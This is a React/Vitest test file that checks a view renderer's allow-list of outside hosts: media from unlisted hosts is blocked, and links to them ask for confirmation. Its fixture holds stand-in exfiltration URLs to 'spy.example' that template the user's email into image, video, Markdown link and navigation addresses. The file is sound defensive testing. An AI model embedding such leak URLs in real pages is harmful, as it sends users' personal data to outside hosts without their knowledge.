// @vitest-environment jsdom
/** The allow-list in the renderer (decision 0155): what a visual view renders and opens. */
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { demoWorkspace, InConsole } from '../../../test-support/console.tsx';
import type { VisualViewDefinition } from '../view-api.ts';
import { OutsideHostsProvider } from './outside-hosts.tsx';
import { ViewRenderer } from './ViewRenderer.tsx';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const definition: VisualViewDefinition = {
  kind: 'visual',
  parameters: [],
  queries: [],
  layout: {
    id: 'root',
    type: 'grid',
    columns: 1,
    children: [
      { id: 'good', type: 'media', url: "'https://images.example.com/a.png'", kind: 'image' },
      { id: 'spy', type: 'media', url: 'https://spy.example/p.png?e={{ user.email }}', kind: 'image' },
      { id: 'clip', type: 'media', url: "'https://spy.example/c.mp4'", kind: 'video' },
      {
        id: 'md',
        type: 'markdown',
        content: '[out](https://spy.example/x?e={{ user.email }}) [in](https://images.example.com/page)',
      },
      {
        id: 'go',
        type: 'button',
        label: 'Go',
        events: [{ type: 'navigate', to: { url: 'https://spy.example/go?e={{ user.email }}' } }],
      },
    ],
  },
};

function show(hosts: string[] | undefined) {
  const view = (
    <ViewRenderer
      viewId="v"
      definition={definition}
      args={{}}
      user={{ id: 'usr_1', email: 'ops@dogu.local' }}
      projectId="demo"
      environmentId="development"
      href={demoWorkspace.href}
    />
  );
  return render(
    <InConsole
      session={{ user: { kind: 'user', id: 'usr_1', email: 'ops@dogu.local' }, signOut: async () => {} }}
    >
      {hosts ? <OutsideHostsProvider hosts={hosts}>{view}</OutsideHostsProvider> : view}
    </InConsole>,
  );
}

const inPlace = (id: string) => document.querySelector(`[data-component="${id}"]`) as HTMLElement;

describe('a visual view and its allowed hosts', () => {
  it('renders media from an allowed host only; the others are notes naming their host', () => {
    show(['images.example.com']);
    expect(inPlace('good').querySelector('img')?.getAttribute('src')).toBe(
      'https://images.example.com/a.png',
    );
    for (const id of ['spy', 'clip']) {
      expect(inPlace(id).querySelector('img, video, audio, object')).toBeNull();
      expect(inPlace(id).textContent).toContain('Not loaded: spy.example');
    }
    expect(document.body.innerHTML).not.toContain('src="https://spy.example');
  });

  it('without a provider nothing outside is rendered', () => {
    show(undefined);
    expect(document.querySelector('img')).toBeNull();
  });

  it('a navigation or a Markdown link to another host asks with the full address; Cancel opens nothing', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    show(['images.example.com']);
    fireEvent.click(screen.getByRole('button', { name: 'Go' }));
    const dialog = await screen.findByRole('dialog');
    expect(screen.getByTestId('leave-url').textContent).toBe('https://spy.example/go?e=ops@dogu.local');
    expect(document.activeElement?.textContent).toBe('Cancel');
    fireEvent.click(screen.getByRole('button', { name: 'Cancel' }));
    await waitFor(() => expect(dialog.isConnected).toBe(false));
    fireEvent.click(screen.getByRole('link', { name: 'out' }));
    await screen.findByRole('dialog');
    expect(screen.getByTestId('leave-url').textContent).toBe('https://spy.example/x?e=ops@dogu.local');
    fireEvent.keyDown(screen.getByRole('dialog'), { key: 'Escape' });
    expect(open).not.toHaveBeenCalled();
    // Open, after reading it, opens exactly that address; an allowed host opens without a dialog.
    fireEvent.click(screen.getByRole('button', { name: 'Go' }));
    fireEvent.click(await screen.findByRole('button', { name: 'Open' }));
    expect(open).toHaveBeenCalledWith(
      'https://spy.example/go?e=ops@dogu.local',
      '_blank',
      'noopener,noreferrer',
    );
    fireEvent.click(screen.getByRole('link', { name: 'in' }));
    expect(open).toHaveBeenLastCalledWith('https://images.example.com/page', '_blank', 'noopener,noreferrer');
    expect(screen.queryByRole('dialog')).toBeNull();
  });
});
